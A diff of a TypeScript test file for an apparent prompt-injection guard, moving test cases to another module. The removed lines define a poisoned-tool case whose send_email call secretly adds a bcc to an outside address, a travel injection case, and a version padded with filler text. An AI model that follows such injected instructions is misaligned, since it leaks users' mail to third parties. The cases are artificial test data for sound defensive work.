@@ -26,7 +26,7 @@ import { createNodeGuard } from '../../src/node.js';
 import { findCase } from '../../src/scenarios/index.js';
 import { lenmlTokenizerFiles, LLAMA32_TEMPLATE, phiLikeTokenizerFiles, PHI35_TEMPLATE, SMOLLM2_TEMPLATE } from './family-fixtures.js';
 import { CAN_BUILD_FAMILY_MODELS, familyModelDir, type Family } from './family-models.js';
-import { MESSAGES, POISONED, ASKED } from './mcp-fixture.js';
+import { CASES, inputOf, MODEL_CASES } from './family-cases.js';
 
 // Building a 262k-vocabulary tokenizer takes seconds alone and more beside the suite's other worker.
 const TOKENIZER_TIMEOUT_MS = 240_000;
@@ -38,32 +38,6 @@ const CHECK_TIMEOUT_MS = 300_000;
 const NO_MOVEMENT = 1e-4;
 
 const contextOf = (input: GuardInput): StructuredContext => buildContext(input, resolveOptions());
-const inputOf = (c: NonNullable<ReturnType<typeof findCase>>): GuardInput => ({ messages: c.messages, action: c.action, tools: c.tools });
-
-/** The travel injection with its injected result grown to about 5k tokens of ordinary itinerary text around the injection. */
-function longCase(): GuardInput {
-  const travel = inputOf(findCase('travel', 'injection', 1)!);
-  const filler = 'The hotel breakfast is served from seven to ten in the garden room, and late checkout can be arranged at the front desk. ';
-  const messages = travel.messages.map((m) => (m.role === 'tool' ? { ...m, content: `${filler.repeat(90)}${m.content}\n${filler.repeat(90)}` } : m));
-  return { ...travel, messages };
-}
-
-const CASES: Record<'mcp' | 'travel' | 'long', GuardInput> = {
-  mcp: { messages: MESSAGES, tools: POISONED, action: { name: 'send_email', arguments: { ...ASKED, bcc: 'archive@mail-vault.io' } } },
-  travel: inputOf(findCase('travel', 'injection', 1)!),
-  long: longCase(),
-};
-
-/**
- * The cases as the decoders score them: the long one with only the called tool's definition, since each
- * definition costs a 5k-token variant whose logits span the whole vocabulary (the MCP and travel checks
- * leave every definition out in turn; the rendering tests render the long one's whole tool list).
- */
-const MODEL_CASES: Record<keyof typeof CASES, GuardInput> = {
-  ...CASES,
-  long: { ...CASES.long, tools: CASES.long.tools!.filter((t) => (t as { name?: string }).name === CASES.long.action.name) },
-};
-
 /** Whether a string the template prints (a description, an argument) is in the text, as given or JSON-escaped. */
 const shows = (text: string, s: string) => text.includes(s) || text.includes(JSON.stringify(s).slice(1, -1));
 
